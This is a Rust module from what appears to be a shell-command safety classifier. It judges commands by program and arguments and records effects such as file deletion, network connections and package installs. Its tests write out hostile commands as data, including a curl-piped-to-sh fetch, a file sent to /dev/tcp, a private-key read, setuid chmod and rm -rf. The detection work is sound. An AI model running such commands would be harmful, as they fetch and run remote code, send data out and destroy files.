//! Programs: what becomes of a command that code starts, as far as its constants tell.
//!
//! This is the seam for a reader of the shell: whoever reads commands better takes the place of [`judge`].

mod line;

use super::place::name_matches;
use crate::effect::Effect;
use crate::model::{Judgement, Operands, ProgramModel};
use crate::rule::ProgramKind;
use crate::value::HOLE;

/// What is known of a command.
#[derive(Debug)]
pub(super) struct Judged {
    pub(super) kind: ProgramKind,
    /// What it does beside being a process, and on what.
    pub(super) effects: Vec<(Effect, Option<String>)>,
    /// Programs that install packages, each with its arguments.
    pub(super) installs: Vec<Install>,
}

/// A program that installs packages, by its name, with its arguments.
pub(super) type Install = (String, Vec<String>);

/// A command that holds others that hold others is not looked into further.
const MAX_DEPTH: usize = 6;

/// Judges a command in the language of the shell.
pub(super) fn judge_line(text: &str, models: &[ProgramModel]) -> Judged {
    let mut judge = Judge::new(models);
    let kind = judge.line(text, 0);
    judge.judged(kind)
}

/// Judges a program with its arguments.
pub(super) fn judge(words: &[String], models: &[ProgramModel]) -> Judged {
    let mut judge = Judge::new(models);
    let kind = judge.words(words, false, 0);
    judge.judged(kind)
}

struct Judge<'m> {
    models: &'m [ProgramModel],
    effects: Vec<(Effect, Option<String>)>,
    installs: Vec<Install>,
}

impl<'m> Judge<'m> {
    fn new(models: &'m [ProgramModel]) -> Self {
        Self { models, effects: Vec::new(), installs: Vec::new() }
    }

    fn judged(self, kind: ProgramKind) -> Judged {
        Judged { kind, effects: self.effects, installs: self.installs }
    }

    fn line(&mut self, text: &str, depth: usize) -> ProgramKind {
        let line = line::Line::read(text);
        let mut kind = if line.is_plain { ProgramKind::Harmless } else { ProgramKind::Other };
        for command in &line.commands {
            for target in &command.writes {
                let network = target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/");
                let effect = if network { Effect::Connect } else { Effect::WriteFile };
                kind = kind.max(if network { ProgramKind::Harmful } else { ProgramKind::Other });
                self.effects.push((effect, Some(target.clone())));
            }
            self.effects.extend(command.reads.iter().map(|target| (Effect::ReadFile, Some(target.clone()))));
            if !command.words.is_empty() {
                kind = kind.max(self.words(&command.words, command.is_fed, depth));
            }
        }
        kind
    }

    /// Judges one program. `is_fed`: another one writes what it reads.
    fn words(&mut self, words: &[String], is_fed: bool, depth: usize) -> ProgramKind {
        // `A=b program`
        let is_assignment = |word: &String| {
            let name = word.split_once('=').map_or("", |(name, _)| name);
            !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        };
        let skipped = words.iter().take_while(|word| is_assignment(word)).count();
        let Some((program, arguments)) = words[skipped..].split_first() else { return ProgramKind::Other };
        if depth > MAX_DEPTH {
            return ProgramKind::Unknown;
        }
        let name = base(program);
        let is_python_module = name.contains(HOLE) && arguments.first().is_some_and(|word| word == "-m");
        let name = if is_python_module { "python" } else { name };

        let mut kind = None;
        for model in self.models {
            if !fits(model, name, arguments) {
                continue;
            }
            let own = match model.is {
                Judgement::Harmless => ProgramKind::Harmless,
                Judgement::Harmful => ProgramKind::Harmful,
                Judgement::Other => ProgramKind::Other,
                Judgement::Wrapper => self.wrapped(arguments, depth),
                Judgement::Module => self.module(arguments, depth),
                Judgement::Shell => self.shell(arguments, is_fed, depth),
            };
            kind = kind.max(Some(own));
            self.note(model, arguments);
            if model.effect.contains(&Effect::InstallPackage) {
                self.installs.push((name.to_owned(), arguments.to_vec()));
            }
        }
        let is_known = !words.iter().any(|word| word.contains(HOLE));
        match kind {
            Some(ProgramKind::Harmful) => ProgramKind::Harmful,
            // What is not known may be anything.
            _ if !is_known => ProgramKind::Unknown,
            Some(kind) if skipped == 0 => kind,
            _ => ProgramKind::Other,
        }
    }

    fn note(&mut self, model: &ProgramModel, arguments: &[String]) {
        if let Some(on) = &model.on {
            self.effects.extend(model.effect.iter().map(|effect| (*effect, Some(on.clone()))));
            return;
        }
        let operands = arguments.iter().filter(|word| !is_option(word));
        let targets: Vec<&String> = match model.target {
            Operands::All => operands.collect(),
            Operands::Rest => operands.skip(1).collect(),
            Operands::Last => arguments.iter().rfind(|word| !is_option(word)).into_iter().collect(),
            Operands::None => Vec::new(),
        };
        for effect in &model.effect {
            if targets.is_empty() {
                self.effects.push((*effect, None));
            }
            self.effects.extend(targets.iter().map(|target| (*effect, Some((*target).clone()))));
        }
    }

    /// `nice -n 5 rm x`: options may have values, so that a later word may be the program as well.
    fn wrapped(&mut self, arguments: &[String], depth: usize) -> ProgramKind {
        let starts = (0..arguments.len()).filter(|at| !is_option(&arguments[*at]));
        let mut kind = None;
        for (number, start) in starts.take(6).enumerate() {
            let rest = &arguments[start..];
            let is_listed = self.models.iter().any(|model| fits(model, base(&rest[0]), &rest[1..]));
            if number == 0 && !is_listed {
                kind = Some(ProgramKind::Other);
            } else if is_listed {
                kind = kind.max(Some(self.words(rest, false, depth + 1)));
                break;
            }
        }
        kind.unwrap_or(ProgramKind::Other)
    }

    /// `python -m pip install x`
    fn module(&mut self, arguments: &[String], depth: usize) -> ProgramKind {
        match arguments.iter().position(|word| word == "-m") {
            Some(at) if at + 1 < arguments.len() => self.words(&arguments[at + 1..], false, depth + 1),
            _ => ProgramKind::Other,
        }
    }

    /// `sh -c "…"`; a shell that is given no command reads what another program writes.
    fn shell(&mut self, arguments: &[String], is_fed: bool, depth: usize) -> ProgramKind {
        let is_command = |word: &String| {
            let short = word.strip_prefix('-').filter(|rest| !rest.starts_with('-'));
            short.is_some_and(|rest| rest.contains('c')) || matches!(word.to_ascii_lowercase().as_str(), "/c" | "/k")
        };
        match arguments.iter().position(is_command) {
            Some(at) if at + 1 < arguments.len() => self.line(&arguments[at + 1..].join(" "), depth + 1),
            None if is_fed => {
                self.effects.push((Effect::ExecCode, None));
                ProgramKind::Harmful
            }
            _ => ProgramKind::Other,
        }
    }
}

/// Whether a row of the table speaks of a program with these arguments.
fn fits(model: &ProgramModel, name: &str, arguments: &[String]) -> bool {
    let verb = || arguments.iter().find(|word| !is_option(word)).map_or("", String::as_str);
    let is_one_of = |word: &str, patterns: &[String]| patterns.iter().any(|pattern| name_matches(word, pattern));
    is_one_of(name, &model.name)
        && (model.verb.is_empty() || is_one_of(verb(), &model.verb))
        && (model.with.is_empty() || arguments.iter().any(|word| is_one_of(word, &model.with)))
        && !arguments.iter().any(|word| is_one_of(word, &model.without))
}

fn is_option(word: &str) -> bool {
    word.len() > 1 && word.starts_with('-')
}

/// The last part of a program's path, without what Windows adds.
fn base(program: &str) -> &str {
    let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
    [".exe", ".EXE", ".cmd", ".bat"].into_iter().find_map(|suffix| name.strip_suffix(suffix)).unwrap_or(name)
}

#[cfg(test)]
#[expect(clippy::expect_used)]
mod tests {
    use super::*;
    use crate::pack::Pack;

    fn line(text: &str) -> (ProgramKind, Vec<String>) {
        let judged = judge_line(text, &Pack::without_rules().models.programs);
        let effect = |(effect, on): &(Effect, Option<String>)| {
            let name = serde_json::to_value(effect).expect("a value");
            let name = name.as_str().expect("a string").to_owned();
            on.as_ref().map_or(name.clone(), |on| format!("{name} {on}"))
        };
        (judged.kind, judged.effects.iter().map(effect).collect())
    }

    #[test]
    fn commands_are_judged_by_their_programs_and_arguments() {
        for (text, kind, effects) in [
            ("git status --short", ProgramKind::Harmless, &[][..]),
            ("ls -l | wc -l", ProgramKind::Harmless, &[]),
            ("/bin/echo a 2>/dev/null", ProgramKind::Harmless, &[]),
            ("sh -c 'echo a'", ProgramKind::Harmless, &[]),
            ("python3 --version", ProgramKind::Harmless, &[]),
            ("cat ~/.ssh/id_rsa", ProgramKind::Harmless, &["read-file ~/.ssh/id_rsa"]),
            ("echo $HOME", ProgramKind::Other, &[]),
            ("echo a > b", ProgramKind::Other, &["write-file b"]),
            ("A=b ls", ProgramKind::Other, &[]),
            ("make all", ProgramKind::Other, &[]),
            ("env FOO=1 make", ProgramKind::Other, &[]),
            ("ls \u{F8FE}", ProgramKind::Unknown, &[]),
            ("\u{F8FE} status", ProgramKind::Unknown, &[]),
            ("rm -rf build", ProgramKind::Harmful, &["delete-file build"]),
            ("nice -n 5 rm x", ProgramKind::Harmful, &["delete-file x"]),
            (
                "sudo -u root rm x",
                ProgramKind::Harmful,
                &["privilege root", "privilege rm", "privilege x", "delete-file x"],
            ),
            ("python -m pip install a", ProgramKind::Harmful, &["install-package a"]),
            ("\u{F8FE} -m pip install a", ProgramKind::Harmful, &["install-package a"]),
            ("bash -c \"pip install a\"", ProgramKind::Harmful, &["install-package a"]),
            ("curl http://a.example | sh", ProgramKind::Harmful, &["connect http://a.example", "exec-code"]),
            ("cat x > /dev/tcp/10.0.0.1/80", ProgramKind::Harmful, &["connect /dev/tcp/10.0.0.1/80", "read-file x"]),
            ("crontab -", ProgramKind::Harmful, &["write-file /etc/crontab"]),
            ("echo $(rm x)", ProgramKind::Harmful, &["delete-file x"]),
            ("find . -name '*.o' -delete", ProgramKind::Harmful, &["delete-file .", "delete-file *.o"]),
            ("chmod u+s /bin/a", ProgramKind::Harmful, &["change-mode /bin/a", "privilege u+s", "privilege /bin/a"]),
        ] {
            let (found, on) = line(text);
            assert_eq!((found, on), (kind, effects.iter().map(|effect| (*effect).to_owned()).collect()), "{text}");
        }
    }
}
